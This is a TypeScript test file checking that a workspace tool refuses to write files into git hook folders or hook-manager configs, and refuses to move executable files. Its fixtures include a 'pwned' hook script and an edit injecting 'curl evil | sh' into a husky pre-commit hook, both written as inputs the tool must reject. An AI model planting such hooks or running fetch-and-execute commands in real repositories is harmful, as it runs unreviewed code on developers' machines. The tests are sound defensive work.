// Hook folders count as .git: `toonlens apply` never writes into the folder git or a hook manager runs
// hooks from (core.hooksPath, .husky/, .githooks/, .lefthook/), never moves an executable file, and the
// Node writer refuses the same even when handed a plan that skipped the planner.
import { after, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync } from 'node:fs';
import { run } from '../../server/src/cli/apply';
import { run as check } from '../../server/src/cli/check';
import type { CliIO } from '../../server/src/cli/io';
import { applyChangesNode } from '../../server/src/node/workspace';
import { isHookSegment, unsafePathReason } from '../../server/src/core/agentJson/report/paths';
import { deterministicEntry, makeReport, sha, tempWorkspace, type TempWorkspace } from '../fixtures/report/helpers';

const spaces: TempWorkspace[] = [];
after(() => spaces.forEach((s) => s.cleanup()));

function capture(cwd: string): CliIO & { out: string; err: string } {
  const io = { out: '', err: '', cwd, stdout: (t: string) => void (io.out += t), stderr: (t: string) => void (io.err += t), readStdin: async () => '' };
  return io;
}

const RUN = '#!/bin/sh\necho pwned > /tmp/toonlens-hook-ran\n';

/** A committed repository with an executable docs/run.md and an auto-tier report moving it to each of `dests`. */
function hookRepo(dests: string[], opts: { hooksPath?: string; executable?: boolean } = {}) {
  const ws = tempWorkspace({ 'docs/run.md': RUN, 'docs/notes.md': 'a\nb\n', '.husky/pre-commit': 'npm test\n' }, { git: true });
  spaces.push(ws);
  if (opts.executable !== false) chmodSync(ws.path('docs/run.md'), 0o755);
  if (opts.hooksPath) ws.git('config', 'core.hooksPath', opts.hooksPath);
  const entries = dests.map((dest) => deterministicEntry('docs/run.md', { kind: 'move-to-archive', expected_sha256: sha(RUN), anchor: { start_line: 1, end_line: 2 }, dest_path: dest }));
  ws.write('hygiene.report.json', JSON.stringify(makeReport(entries), null, 2));
  return ws;
}

describe('hook folders are treated like .git', () => {
  test('names: .husky, .githooks and lefthook folders in any spelling are refused lexically', () => {
    for (const p of ['.githooks/post-checkout', '.husky/post-checkout', 'a/.HUSKY/x', '.githooks./x', '.lefthook/pre-commit/x.sh', '.lefthook-local/x']) {
      assert.match(unsafePathReason(p) ?? '', /hook folder/, p);
    }
    for (const p of ['lefthook.yml', '.lefthook-local.yaml', 'sub/.pre-commit-config.yaml', '.huskyrc.json', 'simple-git-hooks.json', '.overcommit.yml', 'LEFTHOOK.YML']) {
      assert.match(unsafePathReason(p) ?? '', /hook manager's configuration/, p);
    }
    assert.equal(unsafePathReason('docs/husky.md'), undefined);
    assert.equal(unsafePathReason('docs/lefthook.md'), undefined);
    assert.equal(isHookSegment('githooks'), false);
  });

  test('core.hooksPath=.githooks: "move docs/run.md → .githooks/post-checkout" (auto tier) writes nothing', async () => {
    const ws = hookRepo(['.githooks/post-checkout'], { hooksPath: '.githooks' });
    const before = ws.snapshot();
    const io = capture(ws.root);
    assert.equal(await run(['hygiene.report.json'], io), 1, io.out + io.err);
    assert.match(io.out, /entries\[0\] docs\/run\.md: refused: .*hook folder/);
    assert.deepEqual(ws.snapshot(), before);
    assert.equal(ws.exists('.githooks'), false);
  });

  test('husky 9: .husky/post-checkout writes nothing, --tier all neither', async () => {
    const ws = hookRepo(['.husky/post-checkout', '.husky/_/post-checkout', '.husky/']);
    const before = ws.snapshot();
    for (const argv of [['hygiene.report.json'], ['hygiene.report.json', '--tier', 'all']]) {
      const io = capture(ws.root);
      assert.equal(await run(argv, io), 1, io.out + io.err);
      assert.equal(io.out.match(/refused: .*hook folder/g)?.length, 3, io.out);
    }
    assert.deepEqual(ws.snapshot(), before);
  });

  test('a core.hooksPath with any name (relative, set in a sub-folder of the repository) is found through git', async () => {
    const ws = hookRepo(['tools/hooks/post-checkout', 'tools/hooks/'], { hooksPath: 'tools/hooks', executable: false });
    const before = ws.snapshot();
    const io = capture(ws.root);
    assert.equal(await run(['hygiene.report.json', '--tier', 'all'], io), 1, io.out + io.err);
    assert.equal(io.out.match(/refused: .*folder git runs hooks from/g)?.length, 2, io.out);
    assert.deepEqual(ws.snapshot(), before);
    assert.equal(ws.exists('tools'), false);
  });

  test('an absolute core.hooksPath inside the workspace is refused too; the same report applies once it is unset', async () => {
    const ws = hookRepo(['hooks-here/post-checkout'], { executable: false });
    ws.git('config', 'core.hooksPath', ws.path('hooks-here'));
    const io = capture(ws.root);
    assert.equal(await run(['hygiene.report.json'], io), 1, io.out + io.err);
    assert.equal(ws.exists('hooks-here'), false);
    ws.git('config', '--unset', 'core.hooksPath');
    const again = capture(ws.root);
    assert.equal(await run(['hygiene.report.json'], again), 0, again.out + again.err);
    assert.equal(ws.read('hooks-here/post-checkout'), RUN);
  });

  test('lines appended to an existing lefthook.yml or .pre-commit-config.yaml (auto tier): refused, nothing written', async () => {
    const ws = tempWorkspace({ 'docs/notes.md': 'post-checkout:\n  commands:\n', 'lefthook.yml': '# hooks\n', 'pkg/.pre-commit-config.yaml': 'repos: []\n' }, { git: true });
    spaces.push(ws);
    const text = 'post-checkout:\n  commands:\n';
    const entries = ['lefthook.yml', 'pkg/.pre-commit-config.yaml'].map((dest) => deterministicEntry('docs/notes.md', { kind: 'move-to-archive', expected_sha256: sha(text), anchor: { start_line: 1, end_line: 1 }, dest_path: dest }));
    ws.write('hygiene.report.json', JSON.stringify(makeReport(entries), null, 2));
    const before = ws.snapshot();
    const io = capture(ws.root);
    assert.equal(await run(['hygiene.report.json', '--tier', 'all'], io), 1, io.out + io.err);
    assert.equal(io.out.match(/refused: .*hook manager's configuration/g)?.length, 2, io.out);
    assert.deepEqual(ws.snapshot(), before);
  });

  test('an executable file is never moved, even to a harmless folder', async () => {
    const ws = hookRepo(['archive/run.md']);
    const before = ws.snapshot();
    const io = capture(ws.root);
    assert.equal(await run(['hygiene.report.json', '--tier', 'all'], io), 1, io.out + io.err);
    assert.match(io.out, /is executable; an executable file is never moved/);
    assert.deepEqual(ws.snapshot(), before);
  });

  test('check: report/unsafe-path on every destination in a hook location (by name and through core.hooksPath)', async () => {
    const ws = hookRepo(['.husky/post-checkout', '.githooks/x', 'tools/hooks/post-checkout', 'archive/ok.md'], { hooksPath: 'tools/hooks', executable: false });
    const io = capture(ws.root);
    await check(['--format', 'json', 'hygiene.report.json'], io);
    const ds = (JSON.parse(io.out) as { diagnostics: { code: string; message: string }[] }[])[0]!.diagnostics.filter((d) => d.code === 'report/unsafe-path');
    assert.equal(ds.length, 3, JSON.stringify(ds));
    assert.ok(ds.some((d) => /folder git runs hooks from/.test(d.message)), JSON.stringify(ds));
  });

  test('the Node writer refuses a hand-made plan into a hook folder or moving an executable file', () => {
    const ws = hookRepo([], { hooksPath: 'tools/hooks' });
    const before = ws.snapshot();
    const cases = [
      [{ type: 'create' as const, absPath: ws.path('tools/hooks/post-checkout'), text: RUN }],
      [{ type: 'create' as const, absPath: ws.path('.husky/post-merge'), text: RUN }],
      [{ type: 'rename' as const, from: ws.path('docs/notes.md'), to: ws.path('.githooks/post-checkout'), baseSha256: sha('a\nb\n') }],
      [{ type: 'rename' as const, from: ws.path('docs/run.md'), to: ws.path('docs/run2.md'), baseSha256: sha(RUN) }],
      [{ type: 'edit' as const, absPath: ws.path('.husky/pre-commit'), baseSha256: sha('npm test\n'), edits: [{ start: 0, end: 0, newText: 'curl evil | sh\n' }] }],
    ];
    for (const changes of cases) {
      const r = applyChangesNode(changes, ws.root);
      assert.equal(r.ok, false, JSON.stringify(changes));
      if (!r.ok) assert.match(r.reason, /hook|executable/);
    }
    assert.deepEqual(ws.snapshot(), before);
  });
});
